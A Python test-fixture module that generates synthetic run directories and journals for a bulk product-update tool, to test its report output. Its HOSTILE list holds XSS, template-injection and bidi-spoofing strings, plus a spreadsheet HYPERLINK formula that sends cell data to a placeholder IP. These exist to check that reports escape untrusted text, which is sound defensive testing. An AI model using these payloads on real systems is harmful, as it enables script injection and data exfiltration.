"""Run directories whose pages are looked at: made row by row, without a server and in seconds, up to a million rows."""

import hashlib
import json
import random
from collections.abc import Callable, Iterator
from contextlib import closing
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Final

from jobs.formats import read_sheet
from tests.schemas import SCHEMA
from worker.journal import VERSION, WHO, History, PaceMark, create
from worker.journal.records import pace_columns
from worker.journal.schema import PACE, connect
from worker.reports import Summary, write
from worker.settings import Input, Settings, Target

BEGAN: Final = 1_790_000_000.0
"""Seconds since the epoch, of the first command."""

Cells = tuple[str, ...]


@dataclass(frozen=True, slots=True)
class End:
    """How a row ends."""

    status: str
    reason: str = ""
    message: str = ""
    fields: tuple[str, ...] = ()
    http: int = 0


APPLIED: Final = End("applied", http=200)


@dataclass(frozen=True, slots=True)
class Story:
    """A run that was never made.

    Attributes:
        header: of the sheet. `cells`: those of a row, by its number. `end`: how a row ends; None if it was not reached.
        edits: shape and values of what a row replaces.
        per_second: rows.
        marks: what the pace did. `processes`: (command, begin and end in seconds, state, exit status).
    """

    rows: int
    header: Cells
    cells: Callable[[int], Cells]
    end: Callable[[int], End | None]
    shape: str = json.dumps(
        [["attributes", "metadata", "campaign"], "absent", None, ["attributes", "name"], None, None]
    )
    values: Callable[[int], list[Any]] = lambda row: ["spring", f"old name {row}", f"new name {row}"]
    per_second: float = 4.8
    marks: tuple[PaceMark, ...] = ()
    again: frozenset[int] = frozenset()
    state: tuple[str, int | None, str] = ("finished", 1, "")
    refused: int = 0
    settings: dict[str, Any] = field(default_factory=dict)


def make(story: Story, directory: Path) -> Summary:
    """Make the run directory and its reports."""
    directory.mkdir(parents=True)
    sheet = directory / "input.csv"
    with sheet.open("w", encoding="utf-8", newline="") as file:
        file.write(",".join(story.header) + "\r\n")
        file.writelines(_line(story.cells(row)) for row in range(1, story.rows + 1))
    settings = settings_of(story)
    facts = {
        "sha256": hashlib.sha256(sheet.read_bytes()).hexdigest(), "rows": str(story.rows),
        "source": "/golden/prices.csv",
        "settings": settings.recorded(), WHO: "anna@office", VERSION: "0.1.0",
    }  # fmt: skip
    create(directory / "journal.sqlite3", facts)
    _fill(story, directory, sheet)
    return remake(story, directory)


def remake(story: Story, directory: Path) -> Summary:
    """Make the reports of a run directory again."""
    with closing(History(directory / "journal.sqlite3", checked=True)) as history:
        return write(directory, history, settings_of(story), SCHEMA, story.rows)


def settings_of(story: Story) -> Settings:
    target = Target(url="https://yourdomain.commercelayer.io", type="skus")
    how = Input(source="prices.csv", format="csv", delimiter=",")
    return Settings.model_validate({"target": target, "input": how, **story.settings})


def _line(cells: Cells) -> str:
    return (
        ",".join('"' + cell.replace('"', '""') + '"' if set(cell) & set('",\r\n') else cell for cell in cells) + "\r\n"
    )


def _fill(story: Story, directory: Path, sheet: Path) -> None:
    dice = random.Random(7)
    state, status, message = story.state
    last = BEGAN + story.rows / story.per_second + 2
    attempts, results, images = [], [], []
    with sheet.open("rb") as stream:
        for record in read_sheet(stream):
            ref, at = record.ref, BEGAN + record.ref.row / story.per_second
            end = story.end(ref.row)
            if end is None:
                continue
            took, tries = dice.lognormvariate(-1.5, 0.6), 0
            if end.http:
                tries = 2 if ref.row in story.again else 1
                attempts += [(ref.row, n + 1, 1, at + n, None if n == tries - 1 else "safe") for n in range(tries)]
            if end.status == "applied":
                images.append((ref.row, 1, "skus", f"id{ref.row}", 1, json.dumps(story.values(ref.row)), "", 0))
            fields = json.dumps(end.fields) if end.fields else ""
            request = f"req-{ref.row}" if end.http else ""
            results.append(
                (ref.row, ref.digest, end.status, end.reason, end.message, fields, end.http, tries, request,
                 at + max(0, tries - 1) + took, "", 0)
            )  # fmt: skip
    with closing(connect(directory / "journal.sqlite3", write=True, checked=True)) as db:
        db.execute("BEGIN")
        db.execute(
            "INSERT INTO process (command, started_at, last_at, state, exit_status, message, gets, refused)"
            " VALUES ('apply', ?, ?, ?, ?, ?, ?, ?)",
            (BEGAN, last, state, status, message, story.rows // 25, story.refused),
        )
        db.execute("INSERT INTO shape VALUES (1, ?)", (story.shape,))
        db.executemany("INSERT INTO attempt VALUES (?, ?, ?, ?, ?)", attempts)
        db.executemany("INSERT INTO result VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)", results)
        db.executemany("INSERT INTO image VALUES (?, ?, ?, ?, ?, ?, ?, ?)", images)
        if story.marks:
            db.execute(PACE)
            db.executemany("INSERT INTO pace VALUES (?, ?, ?, ?)", map(pace_columns, story.marks))
        db.execute("COMMIT")


# the stories


def fine(rows: int = 1000) -> Story:
    """All went well."""
    return Story(
        rows, ("id", "name", "metadata.campaign"), _price,
        lambda row: End("unchanged", "as_wanted") if row % 9 == 0 else APPLIED,
        state=("finished", 0, ""), marks=(_limits(),),
    )  # fmt: skip


def failing(rows: int = 1000) -> Story:
    """Some rows fail, and the server asks to slow down."""
    return Story(
        rows, ("id", "name", "metadata.campaign", "price"),
        lambda row: (*_price(row), "12,50" if row % 50 == 7 else "9"),
        lambda row: _FAILURES.get(row % 50, APPLIED), marks=tuple(_slowed(rows)), refused=rows // 60,
        again=frozenset(range(1, rows, 17)), settings={"pacing": {"rate": [[50, 10.0]]}},
    )  # fmt: skip


def stopped(rows: int = 1000) -> Story:
    """It ends early."""
    return Story(
        rows, ("id", "name", "metadata.campaign"), _price,
        lambda row: None if row > rows * 0.42 else _FAILURES.get(row % 10, APPLIED),
        state=("stopped", 3, "outage: the server has not answered for 10 minutes (it answered 503)"),
        marks=(_limits(),),
    )  # fmt: skip


HOSTILE: Final = (
    "</script><script>document.title='broken'</script>",
    "</style><img src=x onerror=document.title='broken'>",
    "<svg onload=document.title='broken'>",
    '" onmouseover="document.title=\'broken\'" x="',
    "' autofocus onfocus='document.title=1' '",
    "<!-- ]]> --!> <![CDATA[",
    "&lt;b&gt; &#60;b&#62; &amp;",
    "javascript:document.title='broken'",
    '=HYPERLINK("http://198.51.100.1/?"&A1,"click")',
    "\u202egnp.exe \u2066hidden\u2069",
    "\u05d0\u05d1\u05d2 123 \u0645\u0631\u062d\u0628\u0627",
    "Z\u0351\u036b\u0343\u036a\u0302" * 40,
    "\x1b[31mred\x07\x08end",
    "\U0001f469\u200d\U0001f680" * 60,
    "line\nbreak\ttab\u2028separator",
    "{{constructor.constructor('return 1')()}} ${7*7} #{7*7} <%= 7*7 %>",
    "https://198.51.100.1/pixel.gif",
    "x" * 200_000,
    "<b>" * 100_000,
)
"""Texts that want to be more than text."""


def hostile(rows: int = 400) -> Story:
    """Every text that others write wants to be more than text."""
    return Story(
        rows, ("id", "name", HOSTILE[0]), lambda row: (_evil(row), _evil(row + 1)[:3000], _evil(row + 2)[:3000]),
        lambda row: End("rejected", "validation", _evil(row + 3)[:2000], (_field(row),), 422)
        if row % 4 else APPLIED,
        values=lambda row: ["\u202e<b>", _evil(row)[:5000], _evil(row + 1)[:5000]],
        state=("stopped", 3, HOSTILE[1]),
    )  # fmt: skip


def _field(row: int) -> str:
    return ("name", HOSTILE[0])[row % 2]


def _evil(row: int) -> str:
    return HOSTILE[row % len(HOSTILE)]


def _price(row: int) -> Cells:
    return f"XqLkSb{row:04d}", f"Shirt, blue, size {row % 7}", "spring"


_FAILURES: Final = {
    3: End("rejected", "not_found", "The requested resource was not found", (), 404),
    7: End("invalid", "wrong_type", '"12,50" is not a number: write 12.50.', ("price",)),
    11: End("rejected", "validation", "name - has already been taken", ("name",), 422),
    19: End("unknown", "timed_out", "no reply in 30 s", (), 0),
    23: End("skipped", "empty_row"),
    31: End("failed", "throttled", "it kept asking to slow down (429)", (), 429),
    33: End("conflict", "changed_since_plan", "", ("name",), 0),
}


def _limits(at: float = BEGAN) -> PaceMark:
    return PaceMark(at, "limits", "PATCH", ((50, 10.0),))


def _slowed(rows: int) -> Iterator[PaceMark]:
    yield _limits()
    span = rows / 4.8
    for number in range(rows // 60):
        yield PaceMark(
            BEGAN + span * (0.3 + 0.1 * number / (rows // 60)), "pause", "PATCH", pause_s=span / 80, http=429
        )
    yield PaceMark(BEGAN + span * 0.5, "limits", "PATCH", ((30, 10.0),))
    yield PaceMark(BEGAN + span * 0.7, "down", "PATCH")
    yield PaceMark(BEGAN + span * 0.75, "up", "PATCH")
